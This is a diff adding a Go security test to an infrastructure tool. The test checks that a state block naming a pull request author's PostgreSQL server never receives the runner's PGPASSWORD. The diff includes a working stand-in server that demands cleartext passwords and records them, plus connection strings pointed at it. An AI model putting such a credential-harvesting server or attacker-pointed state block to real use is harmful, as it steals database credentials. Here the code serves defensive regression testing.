@@ -2,13 +2,20 @@ package main
 
 import (
 	"fmt"
+	"net"
 	"os"
 	"os/exec"
 	"os/user"
 	"path/filepath"
 	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
+	"time"
 
+	"github.com/jackc/pgx/v5/pgproto3"
+
+	"github.com/trustform/trustform/engine/state/pgtest"
 	"github.com/trustform/trustform/internal/host/sshtest"
 	"github.com/trustform/trustform/internal/labutil"
 )
@@ -168,4 +175,112 @@ tls_policy "leak" {
 			t.Error("a plan was saved")
 		}
 	}
+}
+
+// standIn is a PostgreSQL server of a pull request's author: it asks every
+// client for its password in clear and keeps what it gets.
+type standIn struct {
+	addr  string
+	conns atomic.Int32
+	mu    sync.Mutex
+	got   []string
+}
+
+func startStandIn(t *testing.T) *standIn {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+	s := &standIn{addr: ln.Addr().String()}
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			s.conns.Add(1)
+			go func() {
+				defer c.Close()
+				c.SetDeadline(time.Now().Add(5 * time.Second))
+				be := pgproto3.NewBackend(c, c)
+				msg, err := be.ReceiveStartupMessage()
+				if _, ssl := msg.(*pgproto3.SSLRequest); ssl {
+					c.Write([]byte("N"))
+					msg, err = be.ReceiveStartupMessage()
+				}
+				if err != nil {
+					return
+				}
+				be.Send(&pgproto3.AuthenticationCleartextPassword{})
+				if be.Flush() != nil {
+					return
+				}
+				be.SetAuthType(pgproto3.AuthTypeCleartextPassword)
+				if m, err := be.Receive(); err == nil {
+					if pw, ok := m.(*pgproto3.PasswordMessage); ok {
+						s.mu.Lock()
+						s.got = append(s.got, pw.Password)
+						s.mu.Unlock()
+					}
+				}
+			}()
+		}
+	}()
+	return s
+}
+
+// TestStatePasswordToAuthorsServer: a state block naming the author's
+// server never gets the runner's PGPASSWORD: not in clear, not over TLS
+// unverified, and not at all where the runner pins the state elsewhere.
+func TestStatePasswordToAuthorsServer(t *testing.T) {
+	evil := startStandIn(t)
+	lab := pgtest.Start(t)
+	block := func(connStr string) func(string) string {
+		return func(s string) string {
+			s, _, _ = strings.Cut(s, "\n# state\n")
+			if connStr == "-" {
+				return s + "\n# state\nstate \"postgres\" {\n  name = \"pinned\"\n}\n"
+			}
+			return s + "\n# state\n" + fmt.Sprintf("state \"postgres\" {\n  conn_str = %q\n}\n", connStr)
+		}
+	}
+	dir := quickstart(t)
+	pw := "PGPASSWORD=" + lab.Password
+	for _, tc := range []struct {
+		name, connStr string
+		env           []string
+		want          string
+	}{
+		{"in clear", "postgres://trustform@" + evil.addr + "/x?sslmode=disable", []string{pw}, "in clear"},
+		{"sslmode=prefer", "postgres://trustform@" + evil.addr + "/x", []string{pw}, "sslmode=verify-full"},
+		{"sslmode=require", "postgres://trustform@" + evil.addr + "/x?sslmode=require", []string{pw}, "without its certificate checked"},
+		{"pinned elsewhere", "postgres://trustform@" + evil.addr + "/x?sslmode=verify-full&sslrootcert=system", []string{pw, "TRUSTFORM_PG_CONN_STR=" + lab.ConnStr()}, "another PostgreSQL server than the one this runner pins"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			rewrite(t, dir, block(tc.connStr))
+			for _, args := range [][]string{{"plan"}, {"apply", "-auto-approve"}, {"state", "list"}, {"show"}} {
+				r := tfEnv(t, dir, tc.env, args...)
+				mustCode(t, r, 1, fmt.Sprint(args))
+				if !strings.Contains(r.stderr, tc.want) {
+					t.Errorf("%v does not say why (%q):\n%s", args, tc.want, r.stderr)
+				}
+			}
+			if n := evil.conns.Load(); n != 0 {
+				t.Errorf("the author's server was contacted %d times; it got %q", n, evil.got)
+			}
+		})
+	}
+	t.Run("pinned", func(t *testing.T) {
+		rewrite(t, dir, block("-"))
+		mustCode(t, tfEnv(t, dir, []string{pw, "TRUSTFORM_PG_CONN_STR=" + lab.ConnStr()}, "apply", "-auto-approve"), 0, "apply with the pinned state")
+		r := tfEnv(t, dir, []string{pw}, "state", "list", "-backend-config=conn_str="+lab.ConnStr(), "-backend-config=name=pinned")
+		mustCode(t, r, 0, "state list through -backend-config")
+		if !strings.Contains(r.stdout, "certificate.www") {
+			t.Errorf("the pinned state is not the one applied:\n%s", r.stdout)
+		}
+		if _, err := os.Stat(filepath.Join(dir, ".trustform", "state.json")); err == nil {
+			t.Error("the state went to .trustform/")
+		}
+	})
 }
